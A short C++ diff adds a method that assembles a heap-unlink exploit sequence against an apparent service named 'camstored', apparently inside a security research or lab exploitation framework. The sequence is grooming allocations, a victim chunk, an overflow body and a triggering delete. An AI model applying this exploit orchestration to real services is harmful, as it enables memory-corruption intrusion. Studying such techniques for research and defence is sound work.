@@ -75,6 +75,14 @@ util::Bytes Camstored::WrapInDelete(const std::string& name) {
   return std::move(w).Take();
 }
 
+std::vector<util::Bytes> Camstored::UnlinkVolley(
+    const exploit::HeapUnlinkPlan& plan) {
+  return {WrapInPut(plan.benign_body, "pad", plan.groom_size),
+          WrapInPut(plan.victim_body, "vic", plan.victim_size),
+          WrapInPut(plan.overflow_body, "pad", plan.groom_size),
+          WrapInDelete("vic")};
+}
+
 ServiceOutcome Camstored::HandleRequest(util::ByteSpan request) {
   last_response_.clear();
   const std::string_view text = RequestText(request);
